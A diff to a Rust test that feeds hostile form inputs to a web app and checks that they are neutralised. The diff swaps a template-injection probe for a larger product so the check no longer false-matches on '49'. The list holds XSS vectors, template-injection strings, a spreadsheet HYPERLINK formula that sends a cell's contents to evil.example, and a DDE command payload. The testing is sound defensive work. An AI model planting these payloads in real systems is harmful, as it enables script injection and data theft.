@@ -15,7 +15,7 @@ const WORDS: [&str; 14] = [
     "<svg/onload=alert(1)>",
     "<a href=\"javascript:alert(1)\">late</a>",
     "<style>*{display:none}</style>",
-    "{{7*7}}{% include 'secret' %}${7*7}<%= 7*7 %>",
+    "{{7919*7907}}{% include 'secret' %}${7919*7907}<%= 7919*7907 %>",
     "<iframe srcdoc=\"<script>alert(1)</script>\">",
     "=HYPERLINK(\"http://evil.example?\"&A1,\"late\")",
     "+cmd|' /C calc'!A0",
@@ -77,7 +77,7 @@ async fn words_stay_words_from_the_public_form_to_the_last_file() {
         assert!(!policy.contains("unsafe-inline") && policy.contains("frame-ancestors"), "{policy}");
         let html = again.text().await.unwrap();
         assert!(!is_markup(words) || !html.contains(words), "{words} stands as it came in {html}");
-        assert!(!html.contains("49"), "a template was run: {html}");
+        assert!(!html.contains("62615533"), "a template was run: {html}");
         let second = [("page", "1"), ("shown", "q2"), ("lang", "en"), ("q2", "That is all."), ("go", "next")];
         assert_eq!(form(&nobody, &path, &second).await.status(), StatusCode::SEE_OTHER, "{words}");
     }
@@ -102,7 +102,7 @@ async fn words_stay_words_from_the_public_form_to_the_last_file() {
             assert!(!html.contains(words), "{words} in the mail {html}");
         }
         assert!(
-            !mail.message.text.contains("49") || !mail.message.text.contains("{{"),
+            !mail.message.text.contains("62615533") || !mail.message.text.contains("{{"),
             "{}",
             mail.message.text
         );
